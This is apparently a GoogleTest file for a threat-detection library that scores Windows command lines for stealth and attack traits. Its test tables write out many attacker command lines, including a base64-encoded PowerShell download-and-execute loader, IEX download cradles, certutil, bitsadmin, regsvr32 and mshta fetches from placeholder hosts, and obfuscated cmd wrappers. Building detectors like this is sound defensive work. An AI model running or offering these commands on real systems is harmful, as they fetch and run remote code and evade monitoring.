#include "core/analytics/command_line.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <ostream>
#include <string>
#include <vector>

namespace c2watch::analytics {
namespace {

using testing::Contains;
using testing::HasSubstr;
using testing::IsEmpty;

constexpr std::uint8_t bit(Trait t) {
  return static_cast<std::uint8_t>(1u << static_cast<unsigned>(t));
}
constexpr std::uint8_t kNone = 0;
constexpr std::uint8_t kHidden = bit(Trait::hidden);
constexpr std::uint8_t kEncoded = bit(Trait::encoded);
constexpr std::uint8_t kDownloads = bit(Trait::downloads);
constexpr std::uint8_t kEvaluates = bit(Trait::evaluates);
constexpr std::uint8_t kRemote = bit(Trait::remote_code);
constexpr std::uint8_t kQuiet = bit(Trait::quiet);
constexpr std::uint8_t kUserFolder = bit(Trait::user_folder);
constexpr std::uint8_t kBypass = bit(Trait::bypass);

// base64 of UTF-16LE "IEX(New-Object Net.WebClient).DownloadString('http://a')" and of "Get-Date".
constexpr const char* kEncodedLoader =
    "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBs"
    "AG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGEAJwApAA==";
constexpr const char* kEncodedDate = "RwBlAHQALQBEAGEAdABlAA==";

struct Case {
  std::string name;
  std::string line;
  std::uint8_t traits;
  std::string program;

  friend void PrintTo(const Case& c, std::ostream* os) { *os << c.name; }
};

class Judge : public testing::TestWithParam<Case> {};

TEST_P(Judge, FindsExactlyTheseTraits) {
  const Case& c = GetParam();
  const Intent intent = judge_command_line(c.line);
  EXPECT_EQ(int{intent.traits}, int{c.traits}) << testing::PrintToString(reasons(intent));
  EXPECT_EQ(intent.program, c.program);
  const bool strong = (c.traits & (kHidden | kEncoded | kDownloads | kEvaluates | kRemote)) != 0;
  const bool sly = (c.traits & kQuiet) != 0 && (c.traits & kUserFolder) != 0;
  EXPECT_EQ(intent.suspicious(), !c.program.empty() && (strong || sly));
}

std::string named(const testing::TestParamInfo<Case>& p) { return p.param.name; }

const std::string kPs = "powershell";

INSTANTIATE_TEST_SUITE_P(
    WindowStyle, Judge,
    testing::Values(
        Case{"atomic_test_4", "powershell.exe -NoProfile -WindowStyle Hidden", kHidden, kPs},
        Case{"empire_agent", "powershell -noP -sta -w 1 -enc " + std::string(kEncodedDate),
             kHidden | kEncoded, kPs},
        Case{"shortest_flag", "powershell -w hidden", kHidden, kPs},
        Case{"some_prefix_of_flag_and_value", "powershell -windowsty h", kHidden, kPs},
        Case{"slash_for_dash", "powershell /w Hidden", kHidden, kPs},
        Case{"two_dashes", "pwsh --windowstyle hidden", kHidden, "pwsh"},
        Case{"en_dash", "powershell \xE2\x80\x93w hidden", kHidden, kPs},
        Case{"horizontal_bar", "powershell \xE2\x80\x95win hid", kHidden, kPs},
        Case{"quoted_value", "powershell -w \"hidden\" -c dir", kHidden, kPs},
        Case{"quotes_inside_the_flag", "powershell -\"w\" hi\"dden\"", kHidden, kPs},
        Case{"upper_case", "POWERSHELL.EXE -W HIDDEN", kHidden, kPs},
        Case{"full_path_with_quotes",
             "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w hidden",
             kHidden, kPs},
        Case{"after_other_flags_with_values",
             "powershell -Version 2 -ExecutionPolicy Bypass -InputFormat None -w hidden",
             kHidden | kBypass, kPs},
        Case{"in_start_process", "powershell -c Start-Process x.exe -WindowStyle Hidden", kHidden,
             kPs},
        Case{"normal_window", "powershell -w Normal", kNone, kPs},
        Case{"minimized_is_visible", "powershell -w 2", kNone, kPs},
        Case{"number_ten_is_not_one", "powershell -w 10", kNone, kPs},
        Case{"longer_than_the_word", "powershell -w hiddenly", kNone, kPs},
        Case{"working_directory_is_not_window", "pwsh -wo hidden", kNone, "pwsh"},
        Case{"value_missing", "powershell -w", kNone, kPs},
        Case{"flag_of_the_script_not_of_powershell", "powershell -File C:\\x\\a.ps1 -w hidden",
             kNone, kPs},
        Case{"another_program", "notepad.exe -w hidden", kNone, ""}),
    named);

INSTANTIATE_TEST_SUITE_P(
    EncodedCommand, Judge,
    testing::Values(
        Case{"shortest", "powershell -e " + std::string(kEncodedDate), kEncoded, kPs},
        Case{"alias_ec", "powershell -ec " + std::string(kEncodedDate), kEncoded, kPs},
        Case{"prefix", "powershell -enco " + std::string(kEncodedDate), kEncoded, kPs},
        Case{"in_full", "powershell -EncodedCommand " + std::string(kEncodedDate), kEncoded, kPs},
        Case{"two_blanks_as_empire_writes", "powershell -enc  " + std::string(kEncodedDate),
             kEncoded, kPs},
        Case{"what_it_decodes_to_counts", "powershell -enc " + std::string(kEncodedLoader),
             kEncoded | kEvaluates | kDownloads, kPs},
        Case{"cut_by_a_collector", "powershell -enc " + std::string(kEncodedLoader).substr(0, 90),
             kEncoded | kEvaluates | kDownloads, kPs},
        Case{"argument_missing", "powershell -enc", kNone, kPs},
        Case{"not_base64", "powershell -enc !!!notbase64", kNone, kPs},
        Case{"too_short_for_a_script", "powershell -enc YQA=", kNone, kPs},
        Case{"seven_characters", "powershell -enc YWFhYWE", kNone, kPs},
        Case{"execution_policy_is_not_encoded", "powershell -ex Bypass", kBypass, kPs},
        Case{"exclusive_prefix_of_nothing", "powershell -enx " + std::string(kEncodedDate), kNone,
             kPs},
        Case{"decoded_in_the_script",
             "powershell -c [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x))",
             kEncoded, kPs}),
    named);

INSTANTIATE_TEST_SUITE_P(
    ScriptText, Judge,
    testing::Values(
        Case{"atomic_test_1", "powershell -Command \"Invoke-WebRequest http://127.0.0.1:8888/\"",
             kDownloads, kPs},
        Case{"command_without_the_flag", "powershell iwr http://a/b", kDownloads, kPs},
        Case{"download_cradle",
             "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://a')\"",
             kEvaluates | kDownloads, kPs},
        Case{"piped_to_iex", "powershell -c \"(gc x)|iex\"", kEvaluates, kPs},
        Case{"backticks", "powershell -c I`E`X (x)", kEvaluates, kPs},
        Case{"any_case", "powershell -c \"iNvOkE-eXpReSsIoN $x\"", kEvaluates, kPs},
        Case{"variable_of_that_name", "powershell -c \"$iex = 1\"", kNone, kPs},
        Case{"word_inside_a_word", "powershell -c Get-Complexity; noiexhere", kNone, kPs},
        Case{"longer_word", "powershell -c iexplore", kNone, kPs},
        Case{"curl_alias", "powershell curl http://a", kDownloads, kPs},
        Case{"socket", "powershell -c New-Object System.Net.Sockets.TcpClient('h',4444)",
             kDownloads, kPs},
        Case{"plain_administration", "powershell -c \"Get-Service | Restart-Service\"", kNone, kPs},
        Case{"script_file", "powershell -NoProfile -File \"C:\\Program Files\\x\\a.ps1\"", kNone,
             kPs},
        Case{"script_file_of_a_user", "powershell -f C:\\Users\\a\\AppData\\Local\\x.ps1",
             kUserFolder, kPs},
        Case{"interactive", "powershell", kNone, kPs}, Case{"nothing_at_all", "", kNone, ""}),
    named);

INSTANTIATE_TEST_SUITE_P(
    Wrapped, Judge,
    testing::Values(
        Case{"cmd_slash_c", "cmd.exe /c powershell -w hidden", kHidden, kPs},
        Case{"cmd_options_before", "cmd /q /d /s /c \"powershell -w hidden -c dir\"", kHidden, kPs},
        Case{"cmd_glued", "cmd /cpowershell -w hidden", kHidden, kPs},
        Case{"cmd_keeps_quotes_of_a_path", "cmd /c \"C:\\a b\\pwsh.exe\" -w \"hidden\"", kHidden,
             "pwsh"},
        Case{"second_of_two_commands", "cmd /c echo x & powershell -w hidden", kHidden, kPs},
        Case{"ampersand_inside_quotes", "cmd /c \"echo x & powershell -w hidden\"", kHidden, kPs},
        Case{"carets", "cmd /c pow^ershell -w h^idden", kHidden, kPs},
        Case{"start_with_title", "cmd /c start \"\" /b powershell -w hidden", kHidden, kPs},
        Case{"cmd_in_cmd_in_cmd", "cmd /c cmd /c cmd /c powershell -w hidden", kHidden, kPs},
        Case{"deeper_than_anyone_needs", "cmd /c cmd /c cmd /c cmd /c cmd /c powershell -w hidden",
             kNone, "cmd"},
        Case{"comspec", "%COMSPEC% /c powershell -w hidden", kHidden, kPs},
        Case{"conhost_headless", "conhost.exe --headless powershell.exe -c dir", kHidden, kPs},
        Case{"conhost_headless_of_something_else", "conhost --headless C:\\x\\app.exe", kHidden,
             ""},
        Case{"conhost_of_every_console",
             "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", kNone, ""},
        Case{"forfiles", "forfiles /p c:\\ /m a /c \"cmd /c powershell -w hidden\"", kHidden, kPs},
        Case{"pcalua", "pcalua.exe -a powershell.exe -c -w hidden", kHidden, kPs},
        Case{"wmic_create", "wmic process call create \"powershell -w hidden\"", kHidden, kPs},
        Case{"atexec", "cmd.exe /C tasklist > %windir%\\Temp\\CYAlyNSS.tmp 2>&1", kNone, "cmd"},
        Case{"notepad_from_cmd",
             "C:\\Windows\\system32\\cmd.exe /C C:\\Windows\\System32\\notepad.exe", kNone, "cmd"},
        Case{"cmd_alone", "cmd.exe", kNone, "cmd"}),
    named);

INSTANTIATE_TEST_SUITE_P(
    OtherLolbins, Judge,
    testing::Values(
        Case{"regsvr32_of_a_web_address",
             "regsvr32.exe /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll",
             kRemote | kEvaluates, "regsvr32"},
        Case{"regsvr32_of_a_library", "regsvr32 /s C:\\Windows\\System32\\x.dll", kNone,
             "regsvr32"},
        Case{"mshta_of_a_web_address", "mshta.exe http://a/b.hta", kRemote, "mshta"},
        Case{"mshta_of_script", "mshta \"javascript:alert(1)\"", kRemote, "mshta"},
        Case{"mshta_of_a_file", "mshta C:\\app\\a.hta", kNone, "mshta"},
        Case{"rundll32_of_script", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
             kRemote, "rundll32"},
        Case{"rundll32_of_a_library", "rundll32.exe shell32.dll,Control_RunDLL", kNone, "rundll32"},
        Case{"rundll32_of_a_users_library",
             "rundll32 C:\\Users\\a\\AppData\\Local\\Temp\\x.dll,Start", kUserFolder, "rundll32"},
        Case{"certutil_download", "certutil -urlcache -split -f http://a/b.exe b.exe", kDownloads,
             "certutil"},
        Case{"certutil_clears_the_cache", "certutil -urlcache * delete", kNone, "certutil"},
        Case{"certutil_hash", "certutil -hashfile x sha256", kNone, "certutil"},
        Case{"bitsadmin", "bitsadmin /transfer j http://a/b C:\\b", kDownloads, "bitsadmin"},
        Case{"bitsadmin_list", "bitsadmin /list", kNone, "bitsadmin"},
        Case{"curl", "curl.exe -s a.example/b", kDownloads, "curl"},
        Case{"curl_version", "curl --version", kNone, "curl"},
        Case{"msiexec_of_a_web_address", "msiexec /q /i http://a/b.msi", kDownloads, "msiexec"},
        Case{"msiexec_of_a_file", "msiexec /i C:\\a.msi /qn", kNone, "msiexec"},
        Case{"wmic_style_sheet", "wmic os get /format:\"http://a/b.xsl\"", kRemote, "wmic"},
        Case{"wmic_local_style_sheet", "wmic os get /format:list", kNone, "wmic"},
        Case{"wscript_batch_mode_from_a_users_folder",
             "wscript.exe //B C:\\Users\\a\\AppData\\Roaming\\x.vbs", kQuiet | kUserFolder,
             "wscript"},
        Case{"wscript_batch_mode", "wscript //B \"C:\\Program Files\\x\\a.vbs\"", kQuiet,
             "wscript"},
        Case{"cscript_of_an_agent", "cscript.exe /nologo \"MonitorKnowledgeDiscovery.vbs\"", kNone,
             "cscript"},
        Case{"msbuild", "msbuild C:\\x\\a.csproj", kNone, "msbuild"}),
    named);

TEST(JudgeCommand, takes_the_program_of_a_task_with_its_arguments_inside) {
  EXPECT_TRUE(judge_command("powershell.exe -w hidden", "").has(Trait::hidden));
  EXPECT_TRUE(judge_command("powershell.exe -NoP", "-w hidden").has(Trait::hidden));
  EXPECT_TRUE(judge_command("%systemroot%\\System32\\cmd.exe", "/c pwsh -w 1").has(Trait::hidden));
}

TEST(JudgeProcess, believes_the_image_not_what_the_caller_wrote) {
  const Intent intent = judge_process(
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "innocent.exe -w hidden");
  EXPECT_TRUE(intent.has(Trait::hidden));
}

TEST(Reasons, name_the_spelling) {
  const auto sentences = reasons(judge_command_line("powershell -w 1 -c iex $x"));
  EXPECT_THAT(sentences, Contains(HasSubstr("-WindowStyle Hidden")));
  EXPECT_THAT(sentences, Contains(HasSubstr("IEX")));
  EXPECT_THAT(reasons(judge_command_line("powershell")), IsEmpty());
}

struct SplitCase {
  std::string name, line, program, arguments;
  friend void PrintTo(const SplitCase& c, std::ostream* os) { *os << c.name; }
};

class Split : public testing::TestWithParam<SplitCase> {};

TEST_P(Split, FindsTheProgram) {
  const SplitCase& c = GetParam();
  const SplitCommand got = split_command(c.line);
  EXPECT_EQ(got.program, c.program);
  EXPECT_EQ(got.arguments, c.arguments);
}

INSTANTIATE_TEST_SUITE_P(
    , Split,
    testing::Values(SplitCase{"plain", "a.exe -x", "a.exe", "-x"},
                    SplitCase{"quoted", "\"C:\\a b\\c.exe\"  -x y", "C:\\a b\\c.exe", "-x y"},
                    SplitCase{"unquoted_path_with_blanks", "C:\\Program Files\\a\\b c.exe -x",
                              "C:\\Program Files\\a\\b c.exe", "-x"},
                    SplitCase{"argument_that_ends_like_a_program", "powershell -File C:\\x\\a.exe",
                              "powershell", "-File C:\\x\\a.exe"},
                    SplitCase{"quote_never_closed", "\"C:\\a b", "C:\\a b", ""},
                    SplitCase{"quote_alone", "\"", "", ""}, SplitCase{"only_blanks", "   ", "", ""},
                    SplitCase{"nothing", "", "", ""}),
    [](const auto& p) { return p.param.name; });

struct TaskCase {
  std::string name, line, task, program, arguments, computer;
  friend void PrintTo(const TaskCase& c, std::ostream* os) { *os << c.name; }
};

class Schtasks : public testing::TestWithParam<TaskCase> {};

TEST_P(Schtasks, UndoesTheQuotes) {
  const TaskCase& c = GetParam();
  const auto task = parse_schtasks(c.line);
  ASSERT_TRUE(task.has_value());
  EXPECT_EQ(task->task_name, c.task);
  EXPECT_EQ(task->program, c.program);
  EXPECT_EQ(task->arguments, c.arguments);
  EXPECT_EQ(task->computer, c.computer);
}

INSTANTIATE_TEST_SUITE_P(
    , Schtasks,
    testing::Values(
        TaskCase{
            "nested_quotes_as_empire_writes",
            "\"C:\\Windows\\system32\\schtasks.exe\" /Create /F /RU system /SC DAILY /ST 09:00 "
            "/TN Updater /TR \"C:\\W\\powershell.exe -NonI -W hidden -c \\\"IEX (x)\\\"\"",
            "Updater", "C:\\W\\powershell.exe", "-NonI -W hidden -c \"IEX (x)\"", ""},
        TaskCase{"single_quotes", "schtasks /create /tn \"My Task\" /tr \"'C:\\a b\\c.exe' -x\"",
                 "My Task", "C:\\a b\\c.exe", "-x", ""},
        TaskCase{"dashes_for_slashes", "schtasks -CREATE -tn x -tr notepad", "x", "notepad", "",
                 ""},
        TaskCase{
            "on_another_machine",
            "schtasks /create /F /tn \\M\\Cache /tr \"C:\\W\\cmd.exe /C n.exe\" /S WORKSTATION6",
            "\\M\\Cache", "C:\\W\\cmd.exe", "/C n.exe", "WORKSTATION6"}),
    [](const auto& p) { return p.param.name; });

TEST(ParseSchtasks, other_uses_are_no_creation) {
  EXPECT_FALSE(parse_schtasks("schtasks /delete /tn x /f"));
  EXPECT_FALSE(parse_schtasks("schtasks /query"));
  EXPECT_FALSE(parse_schtasks("schtasks.exe -create -tn rempl\\shell -xml C:\\x.xml")) << "no /TR";
  EXPECT_FALSE(parse_schtasks("schtasks /change /tn x /tr powershell"));
  EXPECT_FALSE(parse_schtasks(""));
}

TEST(CanonicalCommand, is_one_for_what_the_task_says_and_what_the_process_shows) {
  EXPECT_EQ(canonical_command("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                              "-NonI -W hidden -c \"IEX (x)\""),
            canonical_command("PowerShell.EXE", "-NonI  -W Hidden -c \\\"IEX (x)\\\" "));
  EXPECT_EQ(canonical_command("%COMSPEC%", "/c x"), canonical_command("cmd", "/c x"));
  EXPECT_NE(canonical_command("powershell", "-w 1"), canonical_command("powershell", "-w 2"));
  EXPECT_NE(canonical_command("powershell", "a b"), canonical_command("powershell", "ab"));
}

TEST(FileName, is_what_stands_after_the_last_separator) {
  EXPECT_EQ(unquoted_file_name("C:\\a\\b.exe"), "b.exe");
  EXPECT_EQ(unquoted_file_name("\"C:\\a\\b.exe\""), "b.exe");
  EXPECT_EQ(unquoted_file_name("a/b.exe"), "b.exe");
  EXPECT_EQ(unquoted_file_name("b.exe"), "b.exe");
  EXPECT_EQ(unquoted_file_name("a\\"), "");
  EXPECT_EQ(unquoted_file_name(""), "");
}

// Every prefix of every line of the tables above: nothing may read outside or loop.
TEST(Judge, survives_being_cut_anywhere) {
  const std::string line = "cmd /c start \"\" powershell -w \"hid\\\"den\" -enc " +
                           std::string(kEncodedLoader) +
                           " & conhost --headless \"pw^sh\" -c \"i`ex";
  for (std::size_t n = 0; n <= line.size(); ++n) {
    for (std::size_t from = 0; from < 20 && from <= n; ++from) {
      const std::string part = line.substr(from, n - from);
      const Intent intent = judge_command_line(part);
      EXPECT_LE(intent.strong(), 5);
      parse_schtasks("schtasks /create /tr " + part);
      canonical_command(part, part);
    }
  }
}

}  // namespace
}  // namespace c2watch::analytics
